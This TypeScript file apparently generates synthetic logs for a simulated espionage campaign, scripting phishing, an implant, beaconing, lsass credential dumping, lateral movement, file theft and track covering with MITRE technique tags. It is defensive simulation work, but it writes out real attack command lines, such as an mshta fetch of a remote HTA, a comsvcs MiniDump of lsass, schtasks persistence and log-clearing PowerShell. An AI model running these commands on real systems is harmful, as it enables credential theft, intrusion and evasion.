import type { Instant } from '../../src/model/time.ts'
import { after } from '../chance.ts'
import { POWERSHELL, system32 } from '../life/desk.ts'
import { colleague } from '../records/message.ts'
import type { Placed } from '../records/place.ts'
import {
  createFile,
  deleteFile,
  end,
  markDownload,
  openProcess,
  pipe,
  type Running,
  setRegistry,
  start,
} from '../records/processes.ts'
import {
  asker,
  clearLog,
  installService,
  logoff,
  otherCredentials,
  registerTask,
  runTask,
  serviceState,
  share,
} from '../records/security.ts'
import type { Person } from '../records/who.ts'
import { type Employee, type Host, hostOf, hostsOf, type Share, staffOf } from '../world.ts'
import type { CampaignScript, Desk, Play } from './campaign.ts'

/** An archive by mail, an implant, the directory, the file server, an upload: espionage with tools. */
export const a2: CampaignScript = {
  name: 'a2',
  title: 'Archive by mail, implant, administrator’s credentials, files carried away',
  motive: 'espionage',
  lengthDays: 21,
  run: (play) => {
    const { world, chance, clock } = play
    const victim = chance.pick(staffOf(world, 'engineering', 'research', 'sales'))
    const target = chance.pick(
      world.shares.filter(({ department }) => department === 'research' || department === 'engineering'),
    )
    const admins = world.people.filter(
      ({ administration, computer }) => administration !== undefined && computer !== undefined,
    )
    const admin = admins.length === 0 ? undefined : chance.pick(admins)
    clock.session()
    deadEnd(play)
    clock.session(1)
    const foothold = enter(play, victim)
    beacons(play, foothold)
    clock.session(1)
    discover(play, foothold)
    const account = admin?.administration
    if (account === undefined) return
    clock.session(chance.whole(1, 2))
    stealCredentials(play, foothold, account)
    clock.session(chance.whole(1, 3))
    spread(play, foothold, account)
    clock.session(chance.whole(1, 2))
    collect(play, foothold, account, target)
    coverTracks(play, foothold)
    respond(play, foothold)
  },
}

interface Foothold {
  readonly victim: Employee
  readonly host: Host
  readonly image: string
  readonly task: string
  readonly since: Instant
  /** The implant as it runs, by the morning on which the task started it. */
  readonly running: Map<Instant, Running>
}

/** The first message goes to somebody who opens nothing. */
function deadEnd(play: Play): void {
  const { world, chance, clock } = play
  const nobody = chance.pick(staffOf(world, 'engineering', 'research', 'personnel'))
  const sent = archiveMail(play, nobody)
  play.step({
    stage: 'delivery',
    technique: 'T1566.001',
    what: 'an archive that is never opened',
    subjects: [play.user(nobody)],
    events: [play.received(sent.message)],
  })
  clock.wait({ hours: 5 })
}

function archiveMail(
  play: Play,
  victim: Employee,
): { readonly message: ReturnType<Play['mail']>; readonly archive: string; readonly shortcut: string } {
  const { world, chance, clock, actor } = play
  const partner = chance.pick(world.partners.filter(({ kind }) => kind === 'customer' || kind === 'research'))
  const project = chance.pick(partner.projects)
  const writer = chance.pick(partner.people)
  const sender = actor.sender(
    writer.name,
    actor.domain('mail', partner.domain),
    writer.address.slice(0, writer.address.indexOf('@')),
  )
  const shortcut = `${chance.pick(['Specification', 'Test_results', 'Requirements', 'Drawing'])}_${chance.whole(10, 99)}`
  const archive = `${project.replaceAll(' ', '_')}_${chance.whole(1, 99)}.zip`
  const message = play.mail(
    clock.next(),
    sender,
    [colleague(victim)],
    [
      `${project}: ${chance.pick(['documents', 'open questions', 'revised requirements'])}`,
      `Hello ${victim.name.split(' ')[0]},\n\nattached is what we spoke of on ${project}. Please tell me what you think before our call.\n\nBest regards\n${sender.name}`,
    ],
    {
      attachment: {
        name: archive,
        type: 'application/zip',
        bytes: Buffer.from(`PK\u0003\u0004${chance.hex(40)}${shortcut}.lnk${chance.hex(200)}`, 'latin1'),
      },
    },
  )
  return { message, archive, shortcut }
}

/** Mail, opened archive, script host, implant, task. */
function enter(play: Play, victim: Employee): Foothold {
  const { chance, clock, actor } = play
  const { message, archive, shortcut } = archiveMail(play, victim)
  play.step({
    stage: 'delivery',
    technique: 'T1566.001',
    what: 'an archive in a customer’s name',
    subjects: [play.user(victim)],
    events: [play.received(message)],
  })
  const opened = play.nextAtDesk(victim, message.time)
  const desk = play.desk(victim, opened)
  const { host } = desk
  const both = [play.user(victim), play.host(host)]
  const home = `C:\\Users\\${victim.account}`
  const path = `${home}\\Downloads\\${archive}`
  const stage = actor.server('stage')
  const saved = [
    createFile(desk.outlook, opened, path),
    markDownload(desk.outlook, after(opened, 0.3), path, 'about:internet', 'about:internet'),
  ]
  const script = chance.happens(0.5)
    ? start(desk.explorer, after(opened, 14), {
        image: system32('mshta.exe'),
        commandLine: `"${system32('mshta.exe')}" https://${stage.name}/${chance.hex(6)}.hta`,
        directory: `${home}\\Downloads\\`,
      })
    : start(
        start(desk.explorer, after(opened, 13), {
          image: system32('cmd.exe'),
          commandLine: `"${system32('cmd.exe')}" /c start /min ${shortcut}.lnk & rundll32 ${home}\\AppData\\Local\\Temp\\${chance.hex(5)}.dat,Init`,
        }),
        after(opened, 14),
        {
          image: system32('rundll32.exe'),
          commandLine: `rundll32 ${home}\\AppData\\Local\\Temp\\${chance.hex(5)}.dat,Init`,
        },
      )
  play.step({
    stage: 'exploitation',
    technique: 'T1204.002',
    what: 'the archive is opened and its shortcut followed',
    subjects: both,
    events: [
      ...saved,
      placed(script),
      play.reach({
        time: after(opened, 16),
        host,
        process: script,
        person: victim,
        site: stage,
        bytesIn: 310_000 + chance.whole(0, 90_000),
        bytesOut: 700,
        seconds: 0.8 + chance.next() * 4,
      }),
    ],
  })

  const tool = actor.tool('own', 0)
  const image = `${home}\\AppData\\Local\\${tool.file.replace('.exe', '')}\\${tool.file}`
  const dropped = createFile(script, after(opened, 21), image)
  const implant = start(script, after(opened, 25 + chance.next() * 9), {
    image,
    commandLine: `"${image}"`,
    binary: tool.binary,
    directory: `${home}\\AppData\\Local\\`,
  })
  play.step({
    stage: 'foothold',
    technique: 'T1059',
    what: 'an implant of their own runs',
    subjects: both,
    human: false,
    events: [dropped, placed(implant)],
  })
  // The first line of theirs runs before the implant does: the shell of the shortcut, or what it calls at once.
  const began = script.image.endsWith('mshta.exe') ? script.started : after(opened, 13)
  play.access(play.host(host), 'implant', began)
  play.access(play.user(victim), 'implant in the user’s session', began)

  clock.goTo(after(opened, 200 + chance.next() * 300))
  const task = actor.name('task')
  const failed = start(implant, clock.next('typing'), {
    image: system32('schtasks.exe'),
    commandLine: actor.mistyped(`schtasks /create /sc onlogon /tn ${task} /tr "${image}"`),
  })
  play.step({
    stage: 'backdoor',
    technique: 'T1053.005',
    what: 'a mistyped command makes no task',
    subjects: both,
    events: [placed(failed)],
  })
  const made = start(implant, clock.next('typing'), {
    image: system32('schtasks.exe'),
    commandLine: `schtasks /create /f /sc onlogon /tn ${task} /tr "${image}"`,
  })
  const registered = registerTask(desk.log, asker(victim, desk.session), after(made.started, 0.4), {
    name: task,
    command: image,
    trigger: 'LogonTrigger',
  })
  play.step({
    stage: 'backdoor',
    technique: 'T1053.005',
    what: 'a task starts the implant at logon',
    subjects: both,
    events: [placed(made), registered],
  })
  play.access(play.host(host), 'scheduled task', made.started)
  return { victim, host, image, task, since: opened, running: new Map([[desk.arrived, implant]]) }
}

function placed({ place }: Running): readonly Placed[] {
  return place === undefined ? [] : [place]
}

/** The implant in the session of that day: started again by the task at logon. */
function implantAt(
  play: Play,
  desk: Desk,
  { image, task, running }: Pick<Foothold, 'image' | 'task' | 'running'>,
): Running {
  const known = running.get(desk.arrived)
  if (known !== undefined) return known
  const { binary } = play.actor.tool('own', 0)
  const boot = play.boot(desk.host, desk.arrived)
  const time = after(desk.arrived, 25 + play.chance.next() * 20)
  const made = start(boot.scheduler, time, { image, commandLine: `"${image}"`, binary, session: desk.session })
  runTask(desk.log, time, task, made)
  running.set(desk.arrived, made)
  return made
}

/** Calls home with a period and a jitter of 30 %, while the computer is on. */
function beacons(play: Play, foothold: Foothold): void {
  const { victim, host, since } = foothold
  const { world, chance, actor } = play
  const control = actor.server('control')
  const periodSeconds = chance.pick([1800, 2700, 3600, 5400])
  const events: Placed[] = []
  let time = after(since, 90)
  for (let day = 0; day < play.world.days && time < world.end; day += 1) {
    const wakes = play.nextAtDesk(victim, time)
    if (wakes >= world.end) break
    const desk = play.desk(victim, wakes)
    const process = implantAt(play, desk, foothold)
    for (time = wakes; time < desk.leaves; time = after(time, periodSeconds * (0.7 + 0.6 * chance.next())))
      events.push(
        ...play.reach({
          time,
          host,
          process,
          person: victim,
          site: control,
          bytesOut: 400 + chance.whole(0, 300),
          bytesIn: 180 + chance.whole(0, 900),
          seconds: 0.3 + chance.next(),
          isResolved: chance.happens(0.3),
        }),
      )
    time = after(desk.leaves, 7200)
  }
  play.step({
    stage: 'own tools',
    technique: 'T1071.001',
    what: 'the implant calls home',
    subjects: [play.host(host)],
    human: false,
    time: since,
    events,
  })
}

/** The operator at the victim's computer: works while it is on. */
function atWork(play: Play, foothold: Foothold): { readonly desk: Desk; readonly process: Running } {
  const { clock } = play
  clock.goTo(play.nextAtDesk(foothold.victim, clock.now()))
  const desk = play.desk(foothold.victim, clock.now())
  return { desk, process: implantAt(play, desk, foothold) }
}

const QUESTIONS = [
  'whoami /all',
  'net user /domain',
  'net group "Domain Admins" /domain',
  'nltest /dclist:',
  'net view /all /domain',
  'ipconfig /all',
  'arp -a',
  'net share',
  'systeminfo',
  'tasklist /svc',
  'quser',
  'net localgroup administrators',
] as const

function discover(play: Play, foothold: Foothold): void {
  const { chance, clock } = play
  const { process } = atWork(play, foothold)
  for (const question of chance.sample(QUESTIONS, chance.whole(5, 9))) {
    const name = question.split(' ')[0] ?? ''
    const asked = start(process, clock.next(chance.happens(0.6) ? 'typing' : 'thinking'), {
      image: system32(`${name}.exe`),
      commandLine: question,
    })
    end(asked, after(asked.started, 0.2 + chance.next() * 2))
    play.step({
      stage: 'discovery',
      technique:
        question.includes('Admins') || question.includes('user')
          ? 'T1087.002'
          : question.startsWith('nltest')
            ? 'T1482'
            : 'T1082',
      what: question,
      subjects: [play.host(foothold.host)],
      events: [placed(asked)],
    })
  }
}

/** An administrator had worked on this computer: the memory of lsass has the password's hash. */
function stealCredentials(play: Play, foothold: Foothold, account: Person): void {
  const { chance, clock, actor } = play
  const { process } = atWork(play, foothold)
  const { host, victim } = foothold
  const boot = play.boot(host, clock.now())
  const subjects = [play.host(host), play.user(victim)]
  const trace = `${system32('ntdll.dll')}+9fc24|${system32('KERNELBASE.dll')}+30b0e|UNKNOWN(00000${chance.hex(11)})`
  const first = start(process, clock.next(), {
    image: system32('rundll32.exe'),
    commandLine: `rundll32.exe ${system32('comsvcs.dll')}, MiniDump ${boot.lsass.id} C:\\Windows\\Temp\\${chance.hex(4)}.dmp full`,
  })
  play.step({
    stage: 'credential theft',
    technique: 'T1003.001',
    what: 'a first dump of lsass is blocked',
    subjects,
    events: [placed(first)],
  })
  play.alert(after(first.started, 3), {
    product: 'edr',
    title: 'Credential access from lsass',
    severity: 'medium',
    host,
    person: victim,
  })
  const tool = actor.tool('own', 1)
  const helper = start(process, clock.next(), {
    image: `C:\\ProgramData\\${tool.file}`,
    commandLine: `C:\\ProgramData\\${tool.file} -q`,
    binary: tool.binary,
  })
  const opened = openProcess(
    helper,
    after(helper.started, 1.2),
    boot.lsass,
    chance.pick(['0x1010', '0x1410', '0x1fffff']),
    trace,
  )
  const wrote = createFile(helper, after(helper.started, 3.1), `C:\\ProgramData\\${chance.hex(5)}.tmp`)
  end(helper, after(helper.started, 5))
  play.step({
    stage: 'credential theft',
    technique: 'T1003.001',
    what: 'the memory of lsass is read with a tool of their own',
    subjects: [...subjects, play.user(account)],
    events: [placed(helper), opened, wrote],
  })
  play.access(play.user(account), 'stolen credentials', opened.time)
}

/** Through a service on one or two servers, after one that refuses. */
function spread(play: Play, foothold: Foothold, account: Person): void {
  const { world, chance, clock, actor } = play
  const { desk, process } = atWork(play, foothold)
  const [refuses, ...servers] = chance.sample(hostsOf(world, 'application', 'jump', 'backup'), 3)
  if (refuses !== undefined) {
    const tried = play.remoteLogon({ time: clock.next(), from: foothold.host, to: refuses, account, method: 'NTLM' })
    const used = otherCredentials(desk.log, asker(foothold.victim, desk.session), after(clock.now(), -0.5), {
      account: account.account,
      server: refuses.name,
      process,
    })
    play.step({
      stage: 'spread',
      technique: 'T1021.002',
      what: 'a server gives no access to its administrative share',
      subjects: [play.user(account)],
      events: [used, ...tried.events],
    })
  }
  for (const to of servers.slice(0, chance.whole(1, 2))) {
    const time = clock.next()
    const { session, events } = play.remoteLogon({
      time,
      from: foothold.host,
      to,
      account,
      isAdministrator: true,
      method: chance.happens(0.5) ? 'NTLM' : 'Kerberos',
    })
    const log = play.log(to, time)
    const service = actor.name(`service ${to.name}`)
    const tool = actor.tool('commodity', 0)
    const path = `C:\\Windows\\${tool.file}`
    const wrote = createFile(play.boot(to, time).kernel, after(time, 1.2), path)
    const installed = installService(log, after(time, 2), { name: service, path, who: asker(account, session) })
    const ran = start(play.boot(to, time).services, after(time, 2.4), {
      image: path,
      commandLine: path,
      binary: tool.binary,
    })
    const opened = pipe(ran, after(ran.started, 0.2), 'made', `${service}-${chance.whole(1000, 9999)}`)
    const asked = start(ran, clock.next('typing'), {
      image: system32('cmd.exe'),
      commandLine: 'cmd.exe /c whoami & hostname & net share',
    })
    play.step({
      stage: 'spread',
      technique: 'T1569.002',
      what: `a service starts a tool on ${to.name}`,
      subjects: [play.host(to), play.user(account)],
      events: [...events, wrote, ...installed, placed(ran), opened, placed(asked)],
    })
    play.access(play.host(to), 'service', time)
    logoff(log, account, after(time, 900 + chance.next() * 900), 3, session.logonId)
    serviceState(log, after(time, 1000), service, 'stopped')
  }
}

/** The project's share, packed and carried away. */
function collect(play: Play, foothold: Foothold, account: Person, target: Share): void {
  const { world, chance, clock, actor } = play
  const { process } = atWork(play, foothold)
  const server = hostOf(world, target.host)
  const { session, events } = play.remoteLogon({
    time: clock.next(),
    from: foothold.host,
    to: server,
    account,
    isAdministrator: true,
  })
  const touched = share(play.log(server, clock.now()), asker(account, session), after(clock.now(), 4), {
    name: target.name,
    localPath: target.localPath,
    from: play.addressOf(foothold.host, clock.now()),
    files: chance.sample(target.files, chance.whole(18, 45)),
    secondsBetween: 0.5 + chance.next() * 2,
  })
  play.step({
    stage: 'collection',
    technique: 'T1039',
    what: 'files of the share are fetched',
    subjects: [play.host(server), play.user(account)],
    events: [...events, ...touched],
  })
  play.access(play.host(server), 'session with stolen credentials', clock.now()).close(after(clock.now(), 2400))
  const archive = `C:\\ProgramData\\${chance.hex(5)}.${chance.pick(['7z', 'zip', 'rar'])}`
  const packer = start(process, clock.next(), {
    image: 'C:\\Program Files\\7-Zip\\7z.exe',
    commandLine: `7z.exe a -mx1 -v${chance.whole(50, 200)}m ${archive} C:\\ProgramData\\${chance.hex(4)}`,
  })
  const packed = createFile(packer, after(packer.started, 20 + chance.next() * 60), archive)
  play.step({
    stage: 'collection',
    technique: 'T1560.001',
    what: 'they are packed',
    subjects: [play.host(foothold.host)],
    events: [placed(packer), packed],
  })
  const drop = actor.server('drop')
  const sizes = Array.from({ length: chance.whole(2, 5) }, () => Math.round(chance.logNormal(17.5, 0.4)))
  const uploads = sizes.map((bytesOut) =>
    play.reach({
      time: clock.next('thinking'),
      host: foothold.host,
      process,
      person: foothold.victim,
      site: drop,
      bytesOut,
      bytesIn: 900 + chance.whole(0, 400),
      seconds: bytesOut / 900_000,
      method: 'PUT',
    }),
  )
  play.step({
    stage: 'exfiltration',
    technique: 'T1567.002',
    what: 'the archive is uploaded in parts',
    subjects: [play.host(foothold.host)],
    events: uploads.flat(),
  })
}

function coverTracks(play: Play, foothold: Foothold): void {
  const { chance, clock } = play
  const { desk, process } = atWork(play, foothold)
  const removed = deleteFile(process, clock.next(), `C:\\ProgramData\\${chance.hex(5)}.7z`)
  const shell = start(process, clock.next(), {
    image: POWERSHELL,
    commandLine: 'powershell -c "Remove-Item C:\\ProgramData\\*.tmp,C:\\ProgramData\\*.7z"',
  })
  const quiet = setRegistry(
    process,
    clock.next(),
    `HKU\\${foothold.victim.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU\\a`,
    '(Empty)',
  )
  const events: Placed[] = [removed, ...placed(shell), quiet]
  if (chance.happens(0.4))
    events.push(clearLog(desk.log, asker(foothold.victim, desk.session), clock.next(), 'Windows PowerShell'))
  play.step({
    stage: 'covering tracks',
    technique: 'T1070.004',
    what: 'archives and traces are deleted',
    subjects: [play.host(foothold.host)],
    events,
  })
}

/** In some seeds the computer is rebuilt; the servers and the administrator's account are not looked at. */
function respond(play: Play, foothold: Foothold): void {
  const { chance, clock } = play
  if (chance.happens(0.5)) return
  const at = clock.wait({ days: chance.whole(1, 3) })
  play.contain(play.host(foothold.host), at)
  play.contain(play.user(foothold.victim), after(at, 1800))
}
